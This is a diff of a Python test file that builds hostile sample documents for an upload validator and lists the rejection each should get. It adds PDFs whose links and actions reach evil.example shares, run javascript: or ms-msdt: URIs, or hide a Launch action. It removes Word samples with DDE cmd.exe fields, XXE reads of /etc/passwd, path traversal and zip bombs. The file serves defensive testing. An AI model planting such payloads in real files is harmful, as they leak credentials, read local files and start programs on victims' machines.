@@ -1,15 +1,49 @@
 """What is let in and what is not: (what it is, its name, how to make it, the word it must get). See hostile.py."""
 
-import io
 import os
 import zipfile
 
 import pikepdf
 from pikepdf import Array, Dictionary, Name, String
 
-from tests.applications.hostile import *  # noqa: F403 - a table of its makers
+from tests.applications.hostile import (
+    OLD_LOCK,
+    OLE,
+    annotation,
+    archive_of,
+    attachment,
+    docx,
+    external_content,
+    field,
+    hidden_script,
+    named_script,
+    on_opening,
+    on_page,
+    pdf,
+    relationship,
+)
+from tests.promises.hostile_documents import DOCUMENTS
 
-SAMPLES = [
+
+def link(**action):
+    return annotation(Subtype=Name.Link, A=Dictionary(**action))
+
+
+def address(uri):
+    return lambda: pdf(link(S=Name.URI, URI=String(uri)))
+
+
+def in_document(**facts):
+    return lambda document: [document.Root.__setitem__(f"/{key}", value) for key, value in facts.items()]
+
+
+def page_of_another_file(document):
+    form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
+    form.Ref = Dictionary(F=String("\\\\evil.example\\a.pdf"), Page=0)
+    document.pages[0].obj.Resources.XObject = Dictionary(Fm0=form)
+
+
+PDFS_AND_OTHERS = [
     # what must pass
     ("a PDF", "submission.pdf", pdf, "pdf"),
     (
@@ -187,160 +221,47 @@ SAMPLES = [
         "pdf_attachment",
     ),
     ("a film", "film.pdf", lambda: pdf(annotation(Subtype=Name.RichMedia)), "pdf_media"),
-    # Word documents that act
+    # PDFs that reach out of themselves
+    ("a link without http", "links.pdf", address("www.example.org/a"), "pdf"),
+    ("a link to write a mail", "links.pdf", address("mailto:info@example.org"), "pdf"),
+    ("an article to follow", "thread.pdf", lambda: pdf(link(S=Name.Thread, D=0)), "pdf"),
+    ("a link to a share in a PDF", "links.pdf", address("file://evil.example/share"), "pdf_action"),
+    ("a link to a share, in Windows’ way", "links.pdf", address("\\\\evil.example\\share"), "pdf_action"),
+    ("a link to a share, half said", "links.pdf", address("//evil.example/share"), "pdf_action"),
+    ("a link to a share, with gaps", "links.pdf", address(" fi\nle:///evil.example/"), "pdf_action"),
+    ("a link that is a program", "links.pdf", address("javascript:app.alert(1)"), "pdf_action"),
+    ("a link that starts a program of Windows", "links.pdf", address("ms-msdt:/id"), "pdf_action"),
     (
-        "a Word document with a password",
-        "locked.docx",
-        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(900),
-        "word_password",
-    ),
-    ("macros", "macros.docx", lambda: docx(parts=[("word/vbaProject.bin", OLE)]), "word_macros"),
-    (
-        "macros under another name",
-        "macros.docx",
-        lambda: docx(
-            parts=[("word/theme.dat", "x")],
-            types='<Override PartName="/word/theme.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
-        ),
-        "word_macros",
-    ),
-    (
-        "a macro document called Word",
-        "macros.docx",
-        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
-        "word_macros",
+        "links that all begin at a share",
+        "links.pdf",
+        lambda: pdf(in_document(URI=Dictionary(Base=String("file://evil.example/")))),
+        "pdf_action",
     ),
     (
-        "a template from elsewhere",
-        "linked.docx",
-        lambda: docx(links=relationship("attachedTemplate", "https://evil.example/t.dotm")),
-        "word_linked",
+        "a click to another file",
+        "active.pdf",
+        lambda: pdf(link(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf"), D=Array([0, Name.Fit]))),
+        "pdf_action",
     ),
+    ("a click to a file inside", "active.pdf", lambda: pdf(link(S=Name.GoToE, T=Dictionary())), "pdf_attachment"),
     (
-        "a picture from elsewhere",
-        "linked.docx",
-        lambda: docx(links=relationship("image", "https://evil.example/pixel.png")),
-        "word_linked",
+        "an article of another file",
+        "a.pdf",
+        lambda: pdf(link(S=Name.Thread, F=String("//evil.example/a"))),
+        "pdf_action",
     ),
+    ("a page of another file", "a.pdf", lambda: pdf(page_of_another_file), "pdf_action"),
+    ("a form that fetches its answers", "a.pdf", lambda: pdf(link(S=Name.ImportData, F=String("a"))), "pdf_action"),
     (
-        "a picture from a share",
-        "linked.docx",
-        lambda: docx(links=relationship("image", "file://evil.example/pixel.png")),
-        "word_linked",
+        "a second act behind a harmless one",
+        "active.pdf",
+        lambda: pdf(on_opening(Dictionary(S=Name.GoTo, Next=Dictionary(S=Name.Launch)))),
+        "pdf_action",
     ),
-    (
-        "an object from elsewhere",
-        "linked.docx",
-        lambda: docx(links=relationship("oleObject", "mhtml:https://evil.example/x!x-usc:")),
-        "word_linked",
-    ),
-    (
-        "a frame from elsewhere",
-        "linked.docx",
-        lambda: docx(links=relationship("frame", "https://evil.example/")),
-        "word_linked",
-    ),
-    (
-        "a link that starts a program",
-        "linked.docx",
-        lambda: docx(links=relationship("hyperlink", "ms-msdt:/id")),
-        "word_linked",
-    ),
-    (
-        "a link to a share",
-        "linked.docx",
-        lambda: docx(links=relationship("hyperlink", "\\\\evil.example\\a")),
-        "word_linked",
-    ),
-    (
-        "a field that talks to programs",
-        "fields.docx",
-        lambda: docx(body=field([" DDE", "AUTO c:\\\\cmd.exe"])),
-        "word_fields",
-    ),
-    (
-        "a field that fetches a picture",
-        "fields.docx",
-        lambda: docx(body='<w:fldSimple w:instr=" includepicture &quot;https://evil.example&quot;"/>'),
-        "word_fields",
-    ),
-    (
-        "an object inside",
-        "embedded.docx",
-        lambda: docx(
-            links=relationship("oleObject", "embeddings/o.bin", "Internal"), parts=[("word/embeddings/o.bin", "x")]
-        ),
-        "word_embedded",
-    ),
-    (
-        "an object inside, unannounced",
-        "embedded.docx",
-        lambda: docx(parts=[("word/media/image1.png", OLE)]),
-        "word_embedded",
-    ),
-    (
-        "a control inside",
-        "embedded.docx",
-        lambda: docx(links=relationship("control", "activeX/a.xml", "Internal")),
-        "word_embedded",
-    ),
-    (
-        "an archive inside",
-        "embedded.docx",
-        lambda: docx(parts=[("word/embeddings/table.xlsx", docx())]),
-        "word_embedded",
-    ),
-    (
-        "a web page inside",
-        "embedded.docx",
-        lambda: docx(links=relationship("aFChunk", "chunk.html", "Internal")),
-        "word_embedded",
-    ),
-    # archives made to hurt
-    ("an encrypted archive", "locked.docx", lambda: marked_encrypted(docx()), "archive_password"),
-    ("too many entries", "bomb.docx", lambda: docx(parts=[(f"word/media/{n}.png", "x") for n in range(2000)]), "bomb"),
-    (
-        "an entry that unpacks a thousandfold",
-        "bomb.docx",
-        lambda: docx(parts=[("word/media/image1.png", bytes(50_000_000))]),
-        "bomb",
-    ),
-    ("an entry that lies about its size", "bomb.docx", lambda: lying(announced=9000, real=500_000), "bomb"),
-    ("an entry that is shorter than it says", "bomb.docx", lambda: lying(announced=9000, real=8000), "unreadable"),
-    ("entries that share their bytes", "bomb.docx", overlapping, "bomb"),
-    ("a name that climbs out", "climb.docx", lambda: docx(parts=[("../../etc/cron.d/x", "x")]), "unreadable"),
-    ("a name from the root", "climb.docx", lambda: docx(parts=[("/etc/cron.d/x", "x")]), "unreadable"),
-    ("a name of Windows", "climb.docx", lambda: docx(parts=[("word\\..\\..\\x", "x")]), "unreadable"),
-    ("the same name twice", "twice.docx", lambda: docx(parts=[("WORD/document.xml", "<a/>")]), "unreadable"),
-    ("a link out of the archive", "link.docx", lambda: docx(change=symlink), "unreadable"),
-    ("entities that multiply", "laughs.docx", laughs, "unreadable"),
-    (
-        "a type that lies elsewhere",
-        "dtd.docx",
-        lambda: docx(head='<!DOCTYPE w SYSTEM "//evil.example/">'),
-        "unreadable",
-    ),
-    (
-        "an entity that reads a file",
-        "xxe.docx",
-        lambda: docx(head='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', body="<w:p>&x;</w:p>"),
-        "unreadable",
-    ),
-    (
-        "an entity in another alphabet",
-        "xxe.docx",
-        lambda: docx(
-            parts=[
-                (
-                    "word/styles.xml",
-                    '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE w [<!ENTITY x SYSTEM "http://evil.example/">]><w/>'.encode(
-                        "utf-16"
-                    ),
-                )
-            ]
-        ),
-        "unreadable",
-    ),
-    ("broken XML", "broken.docx", lambda: docx(body="<w:p>"), "unreadable"),
-    ("a PDF that fills the memory", "bomb.pdf", pdf_bomb, "unreadable"),
+    ("a sound", "a.pdf", lambda: pdf(annotation(Subtype=Name.Sound)), "pdf_media"),
+    ("a screen", "a.pdf", lambda: pdf(annotation(Subtype=Name.Screen)), "pdf_media"),
+    ("a model to turn", "a.pdf", lambda: pdf(annotation(Subtype=Name("/3D"))), "pdf_media"),
+    ("a film on opening", "a.pdf", lambda: pdf(on_opening(Dictionary(S=Name.Rendition))), "pdf_media"),
 ]
+
+SAMPLES = [*PDFS_AND_OTHERS, *DOCUMENTS]
